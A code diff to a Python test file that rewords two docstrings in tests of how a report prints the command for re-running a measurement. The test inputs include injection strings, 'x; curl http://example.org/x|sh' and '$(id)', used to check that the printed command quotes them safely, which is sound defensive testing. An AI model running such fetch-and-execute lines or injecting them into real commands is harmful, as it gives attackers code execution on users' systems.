@@ -1,4 +1,4 @@
-"""How the report says that a run is measured again, and by which version it was measured."""
+"""The report's commands for measuring a run again, and the version that measured it."""
 
 from __future__ import annotations
 
@@ -50,7 +50,7 @@ def test_the_command_of_a_run_is_shown_with_its_seed(name: str) -> None:
 
 
 def test_words_of_a_command_stay_words() -> None:
-    """None of them ends the command that is pasted."""
+    """No word ends the pasted command early."""
     run = of(command=("tollbar", "run", "x; curl http://example.org/x|sh", "$(id)")).run
     assert "tollbar run 'x; curl http://example.org/x|sh' '$(id)' --seed 20261121" == pages.commands(run)[SAME]
 
